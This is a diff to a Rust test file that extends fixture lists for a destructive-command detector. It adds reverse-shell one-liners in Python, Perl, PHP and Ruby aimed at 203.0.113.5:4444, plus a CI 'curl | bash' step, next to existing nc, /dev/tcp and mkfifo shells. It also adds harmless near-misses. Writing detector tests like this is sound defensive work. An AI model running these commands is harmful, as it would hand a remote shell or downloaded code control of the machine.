@@ -12,6 +12,7 @@ const DESTRUCTIVE: &[&str] = &[
     "CMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.5\", \"4444\"]",
     "[\"ncat\", \"203.0.113.5\", \"4444\", \"-e\", \"/bin/sh\"]",
     "curl --output=i.sh https://x.io/i; sh i.sh",
+    "- run: >-\n    curl -fsSL https://x.io/i.sh\n    | bash\n",
     "curl -oi.sh https://x.io/i; sh i.sh",
     "fetch https://x.io/i.sh; sh i.sh",
     "\"curl\" https://x.io/i.sh | sh",
@@ -97,6 +98,11 @@ const DESTRUCTIVE: &[&str] = &[
     "setenforce 0",
     "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
     "sh -i 5<> /dev/tcp/203.0.113.5/4444",
+    "python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"203.0.113.5\",4444));subprocess.call([\"/bin/sh\",\"-i\"])'",
+    "python -c \"import socket,pty;s=socket.create_connection(('203.0.113.5',4444));pty.spawn('/bin/bash')\"",
+    "perl -e 'use Socket;connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")));exec(\"/bin/sh -i\");'",
+    "php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
     "nc -e /bin/sh 203.0.113.5 4444",
     "nc -nv 203.0.113.5 4444 -e /bin/bash",
     "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
@@ -116,6 +122,11 @@ fn destructive_commands_are_flagged() {
 }
 
 const HARMLESS: &[&str] = &[
+    "- run: >-\n    echo\n    rm -rf /\n",
+    "python3 -c 'import socket; print(socket.gethostname())'",
+    "python3 -c 'import subprocess; subprocess.call([\"/bin/sh\", \"build.sh\"])'",
+    "python3 check_socket.py --shell /bin/bash",
+    "a socket handed to /bin/sh makes a reverse shell",
     "find . -name x -exec rm -f {} +",
     "find . -type f -exec grep -q x {} \\; -delete",
     "python -> /usr/bin/python3",
